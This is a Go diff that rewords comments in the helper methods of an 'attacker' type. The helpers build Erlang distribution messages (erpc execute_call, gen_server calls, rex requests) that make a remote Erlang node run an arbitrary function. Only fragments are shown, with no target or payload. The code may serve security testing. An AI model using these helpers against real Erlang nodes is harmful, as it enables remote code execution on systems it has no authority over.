@@ -152,7 +152,7 @@ func (a *attacker) regSendRaw(name etf.Atom, message []byte) {
 
 func (a *attacker) ref(i int) etf.Ref { return etf.NewRef(a.self.Node(), 1, uint32(i), 2, 3) }
 
-// spawn asks for erpc's call of a function with raw arguments, a list.
+// spawn requests a call of a function as erpc does. args is an encoded list.
 func (a *attacker) spawn(i int, module, function etf.Atom, args []byte) {
 	mfa := etf.Tuple{etf.Atom("erpc"), etf.Atom("execute_call"), int64(4)}
 	message := etf.AppendListHeader(nil, 4)
@@ -163,14 +163,14 @@ func (a *attacker) spawn(i int, module, function etf.Atom, args []byte) {
 	a.frame(a.control(29, a.ref(i), a.self, a.self, mfa, etf.List{etf.Atom("monitor")}), message)
 }
 
-// call returns the message of a gen_server:call with a raw request.
+// call returns the message of a gen_server:call with an encoded request.
 func (a *attacker) call(request []byte) []byte {
 	b := append(etf.AppendTupleHeader(nil, 3), external(etf.Atom("$gen_call"))...)
 	b = append(b, external(etf.Tuple{a.self, a.ref(1)})...)
 	return append(b, request...)
 }
 
-// rex asks the server rex for a call of a function with raw arguments.
+// rex asks the server rex to call a function. args is an encoded list.
 func (a *attacker) rex(module, function etf.Atom, args []byte) {
 	b := etf.AppendTupleHeader(nil, 5)
 	for _, t := range []etf.Atom{"call", module, function} {
